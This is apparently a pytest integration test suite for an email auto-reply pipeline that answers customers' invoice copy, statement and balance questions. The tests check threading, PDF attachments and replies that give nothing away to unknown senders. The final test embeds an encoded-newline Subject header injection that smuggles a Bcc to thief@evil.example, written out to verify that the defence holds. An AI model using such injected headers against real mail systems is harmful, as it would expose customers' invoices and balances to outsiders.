"""Automatic replies per question kind, end to end: a question mail goes through the pipeline
(store_inbound + process_inbound), its replies go over real SMTP to the aiosmtpd sink, and what
arrived is read back: recipients, threading headers, bodies, and the attached PDFs opened with
pdfplumber."""

from __future__ import annotations

import io
import shutil
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import pdfplumber
import pytest
from sqlalchemy import select, update

from core.config import Settings
from ledger import models as m
from ledger.imports import import_invoices
from worker.inbound.process import process_inbound
from worker.inbound.store import store_inbound
from worker.sending import send_outbox
from worker.services import Services

pytestmark = [pytest.mark.integration, pytest.mark.smtp]

LEDGER = """invoice_number,customer_number,customer_name,customer_email,issue_date,due_date,amount,balance,currency,terms
INV-70001,C701,Acme Manufacturing Inc,ap@acme-mfg.example,2026-10-01,2026-10-31,1250.00,1250.00,USD,Net 30
INV-70002,C701,Acme Manufacturing Inc,ap@acme-mfg.example,2026-11-05,2026-12-05,99.99,99.99,USD,Net 30
INV-70003,C701,Acme Manufacturing Inc,ap@acme-mfg.example,2026-09-20,2026-10-20,500.00,500.00,EUR,Net 30
INV-80001,C801,Borealis Foods Ltd,payables@borealis.example,2026-10-05,2026-11-04,10.00,10.00,USD,Net 30
"""
ACME = "ap@acme-mfg.example"
NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)


class Clock:
    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        return self.now


def make_services(tmp_path: Path, template: Path, sink, **overrides) -> Services:
    path = tmp_path / "ledger.db"
    shutil.copyfile(template, path)
    settings = Settings(
        database_url=f"sqlite:///{path}",
        ar_address="ar@arbox.example",
        company_name="Example Supplies Co.",
        smtp_host=sink.host,
        smtp_port=sink.port,
        smtp_tls="none",
        parse_isolation=False,
        **overrides,
    )
    base = Services.from_settings(settings)
    svc = Services(
        settings=settings,
        engine=base.engine,
        sessions=base.sessions,
        mailer=base.mailer,
        policy=base.policy,
        clock=Clock(),
    )
    csv = tmp_path / "ledger.csv"
    csv.write_text(LEDGER)
    with svc.sessions.begin() as session:
        import_invoices(session, csv, default_currency="USD", now=NOW)
    return svc


@pytest.fixture
def make_svc(tmp_path, sqlite_template, smtp_sink):
    made = []

    def make(**overrides) -> Services:
        svc = make_services(tmp_path, sqlite_template, smtp_sink, **overrides)
        made.append(svc)
        return svc

    yield make
    for svc in made:
        svc.engine.dispose()


@pytest.fixture
def svc(make_svc) -> Services:
    return make_svc()


def question(
    body: str,
    *,
    sender: str = ACME,
    mid: str = "<q1@acme-mfg.example>",
    subject: str = "Question",
    **headers: str,
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "ar@arbox.example"
    msg["Subject"] = subject
    msg["Message-ID"] = mid
    msg["References"] = "<root@acme-mfg.example>"
    msg["Date"] = "Sun, 22 Nov 2026 08:00:00 +0000"
    for name, value in headers.items():
        msg[name.replace("_", "-")] = value
    msg.set_content(body)
    return msg.as_bytes()


def run(svc: Services, raw: bytes):
    stored = store_inbound(svc, raw, source="file")
    result = process_inbound(stored.inbound_id, svc=svc)
    for outbox_id in result.outbox_ids:
        send_outbox(outbox_id, svc=svc)
    return result


def received(sink) -> list[EmailMessage]:
    return [message_from_bytes(r.raw, policy=policy.default) for r in sink.messages()]


def body(msg: EmailMessage, subtype: str = "plain") -> str:
    part = msg.get_body(preferencelist=(subtype,))
    assert part is not None
    return part.get_content().replace("\r\n", "\n")


def pdf_texts(msg: EmailMessage) -> dict[str, str]:
    out = {}
    for part in msg.iter_attachments():
        assert part.get_content_type() == "application/pdf"
        with pdfplumber.open(io.BytesIO(part.get_content())) as pdf:
            out[part.get_filename()] = "\n".join(page.extract_text() or "" for page in pdf.pages)
    return out


def open_items(svc: Services) -> list[tuple[str, str]]:
    with svc.sessions() as s:
        rows = s.execute(
            select(m.ReviewItem.kind, m.ReviewItem.reason).where(m.ReviewItem.status == "open")
        )
        return sorted(rows.tuples())


def test_invoice_copy_request_gets_the_pdf_of_that_invoice_threaded_and_marked_automatic(
    svc, smtp_sink
):
    # Given a registered contact asking for a copy of one of its invoices
    raw = question("Hello,\ncould you send us a copy of invoice INV-70002?\nThanks, Jane")
    # When it is processed and the outbox sent
    result = run(svc, raw)
    # Then one reply reached the contact, threaded on the request and marked automatic
    (sent,) = smtp_sink.messages()
    assert sent.rcpt_tos == (ACME,)
    (reply,) = received(smtp_sink)
    assert reply["In-Reply-To"] == "<q1@acme-mfg.example>"
    assert reply["References"] == "<root@acme-mfg.example> <q1@acme-mfg.example>"
    assert reply["Auto-Submitted"] == "auto-replied"
    assert reply["Subject"] == "Re: Question"
    # with the invoice's PDF, showing its number, customer, amount and balance
    texts = pdf_texts(reply)
    assert list(texts) == ["invoice-INV-70002.pdf"]
    text = texts["invoice-INV-70002.pdf"]
    assert "Invoice number: INV-70002" in text
    assert "Customer C701" in text
    assert "INV-70002 Nov 5, 2026 Dec 5, 2026 Net 30 99.99 99.99" in text
    assert "Open balance: $99.99" in text
    # and the question is settled: nothing waits for a person
    assert result.status == "applied"
    assert open_items(svc) == []


def test_statement_request_gets_one_statement_pdf_per_currency_with_its_totals(svc, smtp_sink):
    run(svc, question("Please send us a statement of account."))
    (reply,) = received(smtp_sink)
    assert reply["In-Reply-To"] == "<q1@acme-mfg.example>"
    assert reply["Auto-Submitted"] == "auto-replied"
    texts = pdf_texts(reply)
    assert sorted(texts) == [
        "statement-C701-2026-11-22-EUR.pdf",
        "statement-C701-2026-11-22-USD.pdf",
    ]
    usd = texts["statement-C701-2026-11-22-USD.pdf"]
    assert "Total due: $1,349.99" in usd
    assert "INV-70001 Oct 1, 2026 Oct 31, 2026 1,250.00 1,250.00 22" in usd
    assert "INV-80001" not in usd  # another customer's invoice
    assert "Total due: €500.00" in texts["statement-C701-2026-11-22-EUR.pdf"]
    assert open_items(svc) == []


def test_balance_inquiry_is_answered_in_the_body_per_currency_with_the_overdue_part(svc, smtp_sink):
    run(svc, question("What is our current balance?"))
    (reply,) = received(smtp_sink)
    text = body(reply)
    assert "Open balance:        $1,349.99 (2 invoices)" in text
    assert "Of which overdue:    $1,250.00" in text
    assert "Open balance:        €500.00 (1 invoice)" in text
    assert "Of which overdue:    €500.00" in text
    assert "$1,349.99" in body(reply, "html")
    assert list(reply.iter_attachments()) == []
    assert open_items(svc) == []


def test_dispute_is_acknowledged_naming_its_invoice_and_stays_for_a_person(svc, smtp_sink):
    result = run(svc, question("Invoice INV-70001 is wrong, we were overcharged."))
    (reply,) = received(smtp_sink)
    text = body(reply)
    assert "We have recorded your dispute about:\n  - invoice INV-70001\n" in text
    assert "INV-70002" not in text
    assert result.status == "review"
    assert [kind for kind, _ in open_items(svc)] == ["dispute"]


def test_promise_to_pay_is_acknowledged_with_the_promised_date(svc, smtp_sink):
    raw = question(
        "We will pay invoice INV-70001 next Friday.",
        mid="<p1@acme-mfg.example>",
    ).replace(b"Sun, 22 Nov 2026 08:00:00 +0000", b"Tue, 01 Dec 2026 10:00:00 +0100")
    run(svc, raw)
    (reply,) = received(smtp_sink)
    assert "pay invoice INV-70001 on Dec 4, 2026." in body(reply)
    assert "Dec 4, 2026" in body(reply, "html")
    assert [kind for kind, _ in open_items(svc)] == ["promise_to_pay"]


def test_remittance_with_a_question_gets_the_acknowledgement_and_the_answer(svc, smtp_sink):
    raw = question("We paid INV-70001 1,250.00 today.\nAlso, please send a copy of INV-70002.")
    result = run(svc, raw)
    replies = received(smtp_sink)
    assert len(replies) == 2
    ack, copy = sorted(replies, key=lambda r: len(list(r.iter_attachments())))
    assert "INV-70001: $1,250.00 (now paid in full)" in ack.get_content()
    assert list(pdf_texts(copy)) == ["invoice-INV-70002.pdf"]
    assert {r["In-Reply-To"] for r in replies} == {"<q1@acme-mfg.example>"}
    assert result.status == "applied"
    assert open_items(svc) == []


def test_the_reply_to_a_stranger_is_the_same_whether_or_not_the_invoice_exists(svc, smtp_sink):
    # Given requests about another customer's invoice, and about an invoice that does not
    # exist: from a stranger, and from a registered contact of another customer
    requests = [
        ("stranger@elsewhere.example", "INV-80001"),
        ("stranger@elsewhere.example", "INV-99999"),
        ("other@unknown.example", "INV-80001"),
        (ACME, "INV-80001"),
        (ACME, "INV-99999"),
    ]
    for n, (sender, number) in enumerate(requests):
        run(
            svc,
            question(
                f"Please send a copy of invoice {number} and our balance.",
                sender=sender,
                mid=f"<s{n}@x.example>",
                subject=f"Copy of {number}",
            ),
        )
    # Then each got one reply, and every reply is byte-for-byte the same but for its
    # envelope and threading headers: no name, no number, no amount, no attachment
    replies = received(smtp_sink)
    assert [r["To"] for r in replies] == [sender for sender, _ in requests]
    assert {r["Subject"] for r in replies} == {"Your message to accounts receivable"}
    texts = {body(r) for r in replies}
    htmls = {body(r, "html") for r in replies}
    assert len(texts) == len(htmls) == 1
    said = texts.pop() + htmls.pop()
    for leak in ("INV-", "Borealis", "Acme", "C801", "10.00", "balance:"):
        assert leak not in said
    assert all(list(r.iter_attachments()) == [] for r in replies)
    # and a person gets each request: the strangers' as unverified senders
    kinds = [kind for kind, _ in open_items(svc)]
    assert kinds.count("unverified_sender") == 3
    assert kinds.count("invoice_copy_request") == 2


def test_mail_that_must_never_be_answered_gets_no_reply_and_keeps_its_review_item(svc, smtp_sink):
    # A contact's mail asking responders to stay quiet (Exchange), and an auto-reply
    run(
        svc,
        question("Please send a copy of invoice INV-70002.", X_Auto_Response_Suppress="All"),
    )
    run(
        svc,
        question(
            "Please send a copy of invoice INV-70002.",
            mid="<q2@acme-mfg.example>",
            Auto_Submitted="auto-replied",
        ),
    )
    run(
        svc,
        question(
            "Please send a copy of invoice INV-70002.",
            mid="<q3@acme-mfg.example>",
            Precedence="bulk",
        ),
    )
    assert smtp_sink.messages() == []
    # the first still asks a person for the copy; the auto-reply and the bulk mail are ignored
    assert [kind for kind, _ in open_items(svc)] == ["invoice_copy_request"]


def test_auto_reply_kinds_none_answers_nothing_and_keeps_every_question(make_svc, smtp_sink):
    svc = make_svc(auto_reply_kinds="none")
    run(svc, question("What is our current balance?"))
    run(svc, question("Please send a copy of INV-ZZZ.", sender="x@elsewhere.example", mid="<2@x>"))
    assert smtp_sink.messages() == []
    assert [kind for kind, _ in open_items(svc)] == ["balance_inquiry", "invoice_copy_request"]


def test_only_the_kinds_listed_are_answered(make_svc, smtp_sink):
    svc = make_svc(auto_reply_kinds="balance-inquiry")
    run(svc, question("What is our current balance?\nPlease also send us a statement of account."))
    (reply,) = received(smtp_sink)
    assert "Open balance:" in body(reply)
    assert [kind for kind, _ in open_items(svc)] == ["statement_request"]


def test_an_address_at_a_domain_the_customer_allows_gets_its_answer(svc, smtp_sink):
    colleague = "jane@acme-mfg.example"
    run(svc, question("What is our current balance?", sender=colleague, mid="<d1@x>"))
    (first,) = received(smtp_sink)
    assert "Open balance" not in body(first)  # not a contact yet: the reply reveals nothing
    with svc.sessions.begin() as s:
        s.execute(
            update(m.Customer)
            .where(m.Customer.number == "C701")
            .values(contact_domain="acme-mfg.example")
        )
    run(svc, question("What is our current balance?", sender=colleague, mid="<d2@x>"))
    second = received(smtp_sink)[1]
    assert second["To"] == colleague
    assert "Open balance:        $1,349.99" in body(second)


def test_the_daily_cap_counts_every_reply_of_one_mail(make_svc, smtp_sink):
    svc = make_svc(max_replies_per_sender_per_day=1)
    run(svc, question("What is our current balance?\nPlease also send us a statement of account."))
    assert len(smtp_sink.messages()) == 1
    # the question left unanswered waits for a person
    assert len(open_items(svc)) == 1


def test_a_question_delivered_twice_is_answered_once(svc, smtp_sink):
    raw = question("What is our current balance?")
    first = run(svc, raw)
    again = run(svc, raw)
    assert first.inbound_id == again.inbound_id
    assert again.outbox_ids == ()
    assert len(smtp_sink.messages()) == 1


def test_a_contacts_copy_request_naming_no_invoice_waits_and_reveals_nothing(svc, smtp_sink):
    run(svc, question("Could you send us a copy of the invoice from last month?"))
    (reply,) = received(smtp_sink)
    assert reply["Subject"] == "Your message to accounts receivable"
    assert "Acme" not in body(reply) and list(reply.iter_attachments()) == []
    assert [kind for kind, _ in open_items(svc)] == ["invoice_copy_request"]


def test_a_hostile_subject_cannot_add_a_recipient_to_the_answer(svc, smtp_sink):
    # Given a contact's question whose Subject hides an encoded newline and a Bcc (CVE-2024-6923)
    raw = question(
        "Could you send us a copy of invoice INV-70002?",
        subject="=?utf-8?q?Copy=0ABcc:_thief@evil.example?=",
    )
    run(svc, raw)
    # Then the answer went to the contact alone, and its headers name nobody else
    (sent,) = smtp_sink.messages()
    assert sent.rcpt_tos == (ACME,)
    reply = message_from_bytes(sent.raw, policy=policy.default)
    assert reply["To"] == ACME
    assert reply["Bcc"] is None and reply["Cc"] is None
    assert b"\nBcc:" not in sent.raw
